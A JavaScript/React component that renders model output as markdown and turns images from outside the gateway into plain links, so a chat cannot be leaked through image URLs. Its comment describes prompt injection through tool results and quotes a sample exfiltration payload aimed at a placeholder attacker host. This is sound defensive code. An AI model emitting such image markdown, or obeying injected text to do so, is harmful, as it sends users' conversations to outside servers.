import ReactMarkdown from 'react-markdown';
import { gatewayUrl } from '../gateway.js';

/**
 * Model text as markdown, safely: react-markdown builds React elements (no innerHTML), raw HTML in
 * the text shows as text, and link and image URLs other than http(s), mailto and relative ones
 * are dropped (its default `urlTransform`).
 *
 * An image from anywhere but the gateway (or a data: URL) is shown as a link, never fetched: a
 * model — or a prompt injected into a tool's result — could otherwise make the browser send the
 * chat to any server in an image's URL (`![x](https://attacker/?q=<the chat>)`). The page's
 * Content-Security-Policy refuses such images too; this shows the user what was there.
 */
function ownImage(src) {
  try {
    const url = new URL(src, gatewayUrl('/'));
    return url.protocol === 'data:' || url.protocol === 'blob:' || url.origin === new URL(gatewayUrl('/')).origin;
  } catch {
    return false;
  }
}

const components = {
  // A link whose URL was dropped stays plain text.
  a: ({ node, href, children }) =>
    href ? (
      <a href={href} target="_blank" rel="noreferrer noopener">
        {children}
      </a>
    ) : (
      <span>{children}</span>
    ),
  img: ({ node, src, alt }) => {
    if (!src) return <span>{alt}</span>;
    if (ownImage(src)) return <img src={src} alt={alt ?? ''} />;
    return (
      <a href={src} target="_blank" rel="noreferrer noopener" className="external-image" title="Image not loaded">
        {alt ? `${alt} (image)` : 'image'}: {new URL(src, gatewayUrl('/')).host}
      </a>
    );
  },
};

export function Markdown({ text }) {
  return (
    <ReactMarkdown components={components}>
      {text}
    </ReactMarkdown>
  );
}
